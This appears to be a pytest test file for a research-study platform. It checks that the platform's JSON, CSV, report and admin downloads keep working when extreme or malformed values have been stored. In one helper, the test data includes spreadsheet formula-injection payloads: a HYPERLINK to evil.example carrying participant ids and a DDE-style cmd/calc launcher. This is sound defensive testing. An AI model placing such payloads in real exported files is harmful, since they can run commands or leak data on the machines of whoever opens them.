"""Whatever ended up in the database, every export and report still downloads.

A broken or hostile client, an older version without today's validation, or a hand edit can
leave values the platform would refuse now: a client time of year 9999 at -14:00 (year 10000
in UTC, which Python cannot hold) or year 1 at +14:00 (year 0), infinite and NaN numbers,
flags that are not text, the longest unicode texts the columns take, formula-like texts. The
researcher's downloads must keep working: the responses JSON and CSV (API and admin), every
report format, and the admin lists.
"""

import csv
import io
import json
import zipfile

import pytest
from django.db import connection
from django.test import Client
from rest_framework.test import APIClient

from studies.models import Assignment, Participant, Response, Stimulus, Study, Trial, TrialOption
from tests.studies.bots import Bot

pytestmark = pytest.mark.django_db

CLIENT_TIMES = (
    "9999-12-31T23:59:59-14:00",  # year 10000 in UTC
    "0001-01-01T00:00:00+14:00",  # year 0 in UTC
    "9999-12-31T23:59:59.999999+14:00",
    "0001-01-01T00:00:00-14:00",
)
# What the database holds for the first two, exported as its text (Python has no year 0 or 10000).
UNREPRESENTABLE_TIMES_AS_STORED = {
    "postgresql": ("10000-01-01 13:59:59+00", "0001-12-31 10:00:00+00 BC"),
    "sqlite": CLIENT_TIMES[:2],
}
LONG_TEXT = "Ünïcødé 🎵 مرحبا \u202e 漢字 "  # accents, emoji, right-to-left, an override, CJK


def longest(text: str, length: int) -> str:
    return (text * (length // len(text) + 1))[:length]


def store_client_times(responses: list[Response]) -> None:
    """Written past the ORM, as a client on yesterday's code could have had them stored."""
    with connection.cursor() as cursor:
        for response, moment in zip(responses, CLIENT_TIMES, strict=False):
            cursor.execute(
                "UPDATE studies_response SET client_sent_at = %s WHERE id = %s",
                [moment, response.pk],
            )


def store_extreme_numbers(responses: list[Response]) -> None:
    inf, nan = float("inf"), float("nan")
    extremes = [
        {"rt_ms": 1e308, "audio_rt_ms": -1e308, "fraction_heard": nan},
        {"rt_ms": inf, "audio_rt_ms": -inf, "fraction_heard": 1e-308},
        {"rt_ms": -inf, "audio_rt_ms": nan, "fraction_heard": -1e308},
        {"rt_ms": nan, "plays": 32767, "pauses": 32767, "position": 32767},
    ]
    for response, values in zip(responses[len(CLIENT_TIMES) :], extremes, strict=False):
        Response.objects.filter(pk=response.pk).update(**values)


def store_longest_texts(study: Study) -> None:
    """Every text column the export reads, filled to its length with unicode or a formula."""
    Study.objects.filter(pk=study.pk).update(name=longest(LONG_TEXT, 200))
    for participant in Participant.objects.filter(study=study):
        Participant.objects.filter(pk=participant.pk).update(
            prolific_pid=longest(
                f'=HYPERLINK("http://evil.example/{participant.pk}")' + LONG_TEXT, 64
            ),
            gender=longest("+cmd|' /C calc'!A0" + LONG_TEXT, 32),
            age_band=longest(LONG_TEXT, 32),
            musical_level=longest("@SUM(1+1)", 16),
            flags=[42, None, {"reason": "=1+1"}, longest(LONG_TEXT, 5000), ["nested"]],
        )
    for stimulus in Stimulus.objects.filter(study=study):
        Stimulus.objects.filter(pk=stimulus.pk).update(
            key=longest(f"{stimulus.pk}-{LONG_TEXT}", 255),
            class_label=longest(f"{stimulus.class_label}{LONG_TEXT}", 128),
            description=longest(LONG_TEXT, 500),
        )
    Trial.objects.filter(phase__study=study).update(
        condition=longest("-" + LONG_TEXT, 64), class_label=longest("=" + LONG_TEXT, 128)
    )
    for option in TrialOption.objects.filter(trial__phase__study=study):
        TrialOption.objects.filter(pk=option.pk).update(
            identity=longest(f"{option.identity}\t{LONG_TEXT}", 255)
        )


def store_broken_screens(study: Study) -> None:
    """An option order that no longer names the trial's options, and one that is no list."""
    first, second = Assignment.objects.filter(participant__study=study).order_by("pk")[:2]
    Assignment.objects.filter(pk=first.pk).update(option_order=[-1, -2, -3])
    Assignment.objects.filter(pk=second.pk).update(option_order={"not": "a list"})


@pytest.fixture
def study_with_extreme_values(live_study) -> Study:
    for _ in range(2):
        Bot(client=Client(), study_slug=live_study.slug).take_whole_study()
    responses = list(Response.objects.filter(participant__study=live_study).order_by("pk"))
    store_client_times(responses)
    store_extreme_numbers(responses)
    store_longest_texts(live_study)
    store_broken_screens(live_study)
    return live_study


def strict_json(content: bytes):
    """JSON as a browser parses it: NaN and Infinity are not JSON."""

    def refuse(constant):
        raise ValueError(f"{constant} is not JSON")

    return json.loads(content, parse_constant=refuse)


def test_every_download_of_a_study_with_extreme_stored_values_works(
    researcher, study_with_extreme_values
):
    study = study_with_extreme_values
    api, site = APIClient(), Client()
    api.force_authenticate(researcher)
    site.force_login(researcher)
    api.raise_request_exception = site.raise_request_exception = False
    n_answers = Response.objects.filter(participant__study=study).count()

    rows = strict_json(api.get(f"/api/studies/{study.pk}/responses/").content)
    assert len(rows) == n_answers
    exported = json.loads(site.get(f"/researcher/studies/{study.pk}/responses.json").content)
    assert exported["responses"] == rows
    times = {row["client_sent_at"] for row in rows}
    assert {"9999-12-31T09:59:59.999999+00:00", "0001-01-01T14:00:00+00:00"} <= times
    assert set(UNREPRESENTABLE_TIMES_AS_STORED[connection.vendor]) <= times
    assert {row["rt_ms"] for row in rows} >= {1e308, None}
    assert {row["correct_position"] for row in rows} >= {None}
    assert any("42; null; {" in row["participant_flags"] for row in rows)

    for url in (f"/api/studies/{study.pk}/responses/?as=csv",):
        table = list(csv.DictReader(io.StringIO(api.get(url).content.decode())))
        assert len(table) == n_answers
    for path in ("responses.csv", "responses.json"):
        assert site.get(f"/researcher/studies/{study.pk}/{path}").status_code == 200

    for fmt in ("json", "html", "pdf", "csv"):
        from_api = api.get(f"/api/studies/{study.pk}/report/", {"as": fmt})
        assert from_api.status_code == 200, (fmt, from_api.content[:300])
        from_site = site.get(f"/researcher/studies/{study.pk}/report.{fmt}")
        assert from_site.status_code == 200, (fmt, from_site.content[:300])
    report = strict_json(api.get(f"/api/studies/{study.pk}/report/", {"as": "json"}).content)
    assert report["n_answers"] == n_answers
    tables = site.get(f"/researcher/studies/{study.pk}/report.csv").content
    assert "conditions.csv" in zipfile.ZipFile(io.BytesIO(tables)).namelist()

    for action in ("export_csv", "export_json"):
        download = site.post(
            "/admin/studies/study/", {"action": action, "_selected_action": [study.pk]}
        )
        assert download.status_code == 200, action
    answer = Response.objects.filter(participant__study=study).order_by("pk").only("pk").first()
    for page in (
        "/admin/studies/response/",
        f"/admin/studies/response/?participant__study__id__exact={study.pk}",
        f"/admin/studies/response/{answer.pk}/change/",
        "/admin/studies/participant/",
        "/admin/studies/stimulus/",
        "/admin/studies/trial/",
        f"/admin/studies/study/{study.pk}/change/",
        f"/api/studies/{study.pk}/participants/",
        f"/api/studies/{study.pk}/stimuli/",
    ):
        client = api if page.startswith("/api/") else site
        assert client.get(page).status_code == 200, page
    answer_page = site.get(f"/admin/studies/response/{answer.pk}/change/").content.decode()
    assert UNREPRESENTABLE_TIMES_AS_STORED[connection.vendor][0] in answer_page
